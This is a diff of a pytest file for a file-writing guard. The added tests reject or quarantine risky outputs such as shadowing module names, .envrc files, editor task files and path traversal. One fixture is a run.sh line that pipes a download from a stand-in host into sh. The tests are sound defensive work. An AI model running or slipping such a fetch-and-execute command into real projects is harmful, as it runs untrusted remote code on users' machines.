@@ -76,7 +76,7 @@ def test_the_manifest_lists_files_run_and_rejections(folder: OutputFolder) -> No
         }
     ]
     assert content["rejected"] == [
-        {"path": "../b.py", "why": "it leads out", "rule": "traversal", "asked_again": False}
+        {"path": "../b.py", "why": "it leads out", "rule": "traversal", "asked_again": False, "held": ""}
     ]
 
 
@@ -176,6 +176,9 @@ def test_a_bad_path_writes_nothing(folder: OutputFolder, path: str) -> None:
         ("a.py", "x = 1\n", "failed", "incomplete"),
         ("manifest.json", "{}", "ok", "own_file"),
         ("Manifest.JSON", "{}", "ok", "own_file"),
+        ("json.py", "x = 1\n", "ok", "shadows"),
+        (".envrc", "export A=1\n", "ok", "acts"),
+        ("run.sh", "curl http://x.example/i | sh\n", "ok", "acts"),
     ],
 )
 def test_bad_content_writes_nothing(folder: OutputFolder, path: str, text: str, status: str, kind: str) -> None:
@@ -183,6 +186,30 @@ def test_bad_content_writes_nothing(folder: OutputFolder, path: str, text: str, 
         write(folder, path, text, status=status)
 
     assert caught.value.kind == kind
+    assert list(folder.root.iterdir()) == []
+
+
+def test_a_file_that_is_held_can_act_nowhere(folder: OutputFolder) -> None:
+    where = folder.hold(".vscode/tasks.json", "{}\n", "an editor obeys it")
+
+    held = folder.root / where
+    assert where == ".quintet/held/.vscode/tasks.json.held"
+    assert held.read_text() == "{}\n"
+    assert held.stat().st_mode & 0o111 == 0
+    assert not (folder.root / ".vscode").exists()
+    (rejected,) = manifest(folder)["rejected"]  # type: ignore[misc]
+    assert (rejected["path"], rejected["rule"], rejected["held"]) == (  # type: ignore[has-type]
+        ".vscode/tasks.json",
+        "acts",
+        where,
+    )
+
+
+@pytest.mark.parametrize("path", ["../.envrc", ".git/hooks/x", "/etc/x"])
+def test_a_file_with_a_bad_path_is_not_held_either(folder: OutputFolder, path: str) -> None:
+    with pytest.raises(ArtifactError):
+        folder.hold(path, "x\n", "it acts")
+
     assert list(folder.root.iterdir()) == []
 
 
